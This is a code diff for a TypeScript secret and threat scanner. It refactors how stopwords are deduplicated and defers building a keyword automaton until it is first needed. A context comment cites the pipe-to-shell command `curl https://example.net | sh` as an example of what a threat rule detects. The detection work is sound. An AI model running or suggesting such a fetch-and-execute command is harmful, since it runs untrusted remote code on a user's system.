@@ -196,14 +196,12 @@ export function compileRule(raw: unknown, where: (string | number)[], problems: 
   // Made-up values (counting runs, placeholder families) are quiet in every secret rule. A
   // threat rule's match is a command or a phrase, not a value: `curl https://example.net | sh`
   // is a threat whatever its host is called.
-  if (kind === 'secret') for (const w of MADE_UP_STOPWORDS) if (!allowlist.stopwords.includes(w)) allowlist.stopwords.push(w);
-  if (shape === 'context') {
-    for (const w of CONTEXT_STOPWORDS) if (!allowlist.stopwords.includes(w)) allowlist.stopwords.push(w);
-  }
+  if (kind === 'secret') addStopwords(allowlist.stopwords, MADE_UP_STOPWORDS);
+  if (shape === 'context') addStopwords(allowlist.stopwords, CONTEXT_STOPWORDS);
   if (shape === 'url') {
     const shared = urlAllowlist();
     allowlist.regexes.push(...shared.regexes);
-    for (const w of shared.stopwords) if (!allowlist.stopwords.includes(w)) allowlist.stopwords.push(w);
+    addStopwords(allowlist.stopwords, shared.stopwords);
   }
   if (problems.length > before || !regex) return undefined;
   const first = source !== undefined && !/[mi]/.test(typeof flags === 'string' ? flags : '') ? anchoredFirstChar(source) : undefined;
@@ -220,6 +218,20 @@ export function compileRule(raw: unknown, where: (string | number)[], problems: 
     allowlist,
   };
   return lazyField(rule as Omit<CompiledRule, 'regex'> & { regex: RegExp }, 'regex', regex);
+}
+
+/**
+ * Append the words `list` lacks, keeping its order. A set rather than `includes` per word:
+ * every rule takes the ~70 made-up stopwords, and a linear search over its own list for each
+ * cost every start (every worker thread) a quadratic pass over 500 rules.
+ */
+function addStopwords(list: string[], words: readonly string[]): void {
+  const have = new Set(list);
+  for (const w of words) {
+    if (have.has(w)) continue;
+    have.add(w);
+    list.push(w);
+  }
 }
 
 /**
@@ -261,7 +273,9 @@ function lazyField<T extends object, K extends string>(target: T, key: K, value:
 /** Rules compiled together with their keyword automaton; shared by every gate. */
 export class Ruleset {
   readonly rules: readonly CompiledRule[];
-  readonly automaton: KeywordAutomaton;
+  /** The keywords, by id; the automaton over them is built on the first keyword pass. */
+  private readonly keywordList: string[];
+  private automatonValue: KeywordAutomaton | undefined;
   /** keyword id -> indices of rules that list it */
   private readonly byKeyword: number[][];
   /** rules without keywords run on every text */
@@ -292,7 +306,16 @@ export class Ruleset {
         this.byKeyword[id]!.push(ri);
       }
     });
-    this.automaton = new KeywordAutomaton([...keywordIds.keys()]);
+    this.keywordList = [...keywordIds.keys()];
+  }
+
+  /**
+   * Built when first needed: a scan that runs in worker threads reads the parent's ruleset for
+   * the report's rule list only, and building the automaton there cost every large scan ~150 ms
+   * of CPU on the main thread for nothing.
+   */
+  get automaton(): KeywordAutomaton {
+    return (this.automatonValue ??= new KeywordAutomaton(this.keywordList));
   }
 
   get digest(): string {
